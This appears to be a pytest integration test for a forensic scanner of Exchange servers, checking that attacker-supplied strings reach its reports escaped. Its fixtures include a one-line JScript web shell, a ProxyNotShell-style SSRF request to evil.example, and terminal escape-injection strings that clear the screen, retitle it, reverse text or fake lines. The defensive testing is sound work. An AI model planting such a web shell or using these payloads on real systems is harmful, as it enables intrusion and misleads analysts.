"""Attacker-written strings reach the reports harmless: visible escapes in text, valid JSON.

The user agent, URL, query and user name of a web request are the attacker's to choose, and
so is the name of a file dropped on the server. Printed raw, they could clear the analyst's
screen, retitle the terminal, reverse text (U+202E), overwrite a line (CR) or fake report lines.
"""

from __future__ import annotations

import json
import logging
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from exhunt.cli.main import main
from exhunt.document import ScanDocument
from exhunt.model import Category
from exhunt.options import ScanOptions
from exhunt.report.formats import RenderOptions, render
from exhunt.scan import scan
from exhunt.testing.builder import EvidenceBuilder, Row

pytestmark = pytest.mark.integration

ESC, BEL, RLO = "\x1b", "\x07", "\u202e"
CLEAR = f"{ESC}[2J"
TITLE = f"{ESC}]0;owned{BEL}"
HOSTILE = f"{CLEAR}{TITLE}{RLO}gpj.exe\rFAKE\x00nul\u2028line\x9bcsi"
LONG = "A" * 6000
SHELL_NAME = f"{ESC}[31mlogon{RLO}xcod.aspx"
ATTACKER = "203.0.113.66"
DAY = date(2021, 3, 3)
# Control characters, C1 controls, direction marks and overrides, line and paragraph
# separators, byte order mark: none of them may reach a terminal.
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]"
)
WIDTH = 80


def _at(hour: int, minute: int = 0) -> datetime:
    return datetime(DAY.year, DAY.month, DAY.day, hour, minute, tzinfo=UTC)


def _request(
    when: datetime, method: str, stem: str, query: str, user: str, agent: str | bytes
) -> Row:
    return {
        "time": when, "s-ip": "10.0.0.5", "cs-method": method, "cs-uri-stem": stem,
        "cs-uri-query": query, "s-port": 443, "cs-username": user, "c-ip": ATTACKER,
        "cs(User-Agent)": agent, "sc-status": 200, "sc-substatus": 0, "sc-win32-status": 0,
        "time-taken": 15,
    }  # fmt: skip


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> Path:
    b = EvidenceBuilder(tmp_path_factory.mktemp("hostile") / "evidence", build="15.1.2106.2")
    probes: list[Row] = [
        {"time": _at(hour, 30), "cs-method": "GET", "cs-uri-stem": "/owa/healthcheck.htm",
         "c-ip": "127.0.0.1", "sc-status": 200}
        for hour in range(24)
    ]  # fmt: skip
    attacks = [
        # Web shell use: the URL, the user name and the user agent are the attacker's.
        _request(_at(6, 1), "POST", f"/owa/auth/{HOSTILE}.aspx", f"x={HOSTILE}", HOSTILE, HOSTILE),
        # ProxyNotShell: an authenticated autodiscover.json SSRF, hostile query and user.
        _request(_at(6, 2), "GET", "/autodiscover/autodiscover.json",
                 f"@evil.example/powershell/?X={HOSTILE}", f"corp\\{HOSTILE}", HOSTILE),
        # Very long strings everywhere.
        _request(_at(6, 3), "POST", f"/owa/auth/{LONG}.aspx", LONG, LONG, LONG),
        # Bytes that are not UTF-8 at all.
        _request(_at(6, 4), "POST", "/owa/auth/x.aspx", "-", "-", b"Mozilla\xff\xfe\xed\xa0\x80"),
    ]  # fmt: skip
    b.iis(1, DAY, sorted(probes + attacks, key=lambda row: str(row["time"])))
    shell = b.exchange("FrontEnd", "HttpProxy", "owa", "auth", SHELL_NAME)
    b.file(shell, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>', _at(6))
    return b.root


@pytest.fixture(scope="module")
def document(evidence: Path) -> ScanDocument:
    return scan([evidence], ScanOptions(jobs=1))


def _unsafe(text: str) -> list[str]:
    return sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(text)})


def test_the_hostile_requests_are_found(document: ScanDocument) -> None:
    # Otherwise the report tests below would prove nothing.
    categories = {f.category for f in document.findings}
    assert {Category.WEBSHELL, Category.EXPLOITATION} <= categories
    agents = {ua for f in document.findings for ua in f.indicators.user_agents}
    assert any(CLEAR in ua and TITLE in ua and RLO in ua and "\r" in ua for ua in agents)
    paths = {p for f in document.findings for p in f.indicators.paths}
    assert any(SHELL_NAME in p for p in paths)
    assert any(f"/owa/auth/{LONG}.aspx" in p for p in paths)


@pytest.mark.parametrize("verbose", [False, True])
def test_text_report_shows_escapes_not_controls(document: ScanDocument, verbose: bool) -> None:
    text = render(document, "text", RenderOptions(verbose=verbose))
    assert _unsafe(text) == []
    assert [n for n, line in enumerate(text.split("\n")) if len(line) > WIDTH] == []
    assert "\\x1b[31mlogon\\u202excod.aspx" in text  # the dropped file's name, made visible
    if verbose:  # the timeline shows the requests, user agent included
        for escape in ("\\x1b[2J", "\\x1b]0;owned\\x07", "\\u202egpj.exe\\rFAKE", "\\u2028"):
            assert escape in text
        assert "\\x9bcsi" in text


def test_json_is_valid_and_round_trips(document: ScanDocument) -> None:
    text = document.to_json()
    assert re.search("[\x00-\x09\x0b-\x1f]", text) is None  # JSON escapes C0 controls
    data = json.loads(text)
    agents = {ua for f in data["findings"] for ua in f["indicators"]["user_agents"]}
    assert any(CLEAR in ua and TITLE in ua and RLO in ua for ua in agents)  # kept exactly
    assert any("Mozilla\ufffd" in ua for ua in agents)  # undecodable bytes replaced
    again = ScanDocument.from_json(text)
    assert again.to_json() == text
    assert again.findings == document.findings


def test_command_line_output(
    evidence: Path, document: ScanDocument, capsys: pytest.CaptureFixture[str]
) -> None:
    handlers = logging.getLogger().handlers[:]  # the command line configures logging
    try:
        assert main(["scan", str(evidence), "-v"]) == 3
        text = capsys.readouterr()
        assert _unsafe(text.out) == [] and _unsafe(text.err) == []
        assert main(["scan", str(evidence), "--format", "json"]) == 3
        out = capsys.readouterr().out
        assert ScanDocument.from_json(out).findings == document.findings
    finally:
        logging.getLogger().handlers[:] = handlers
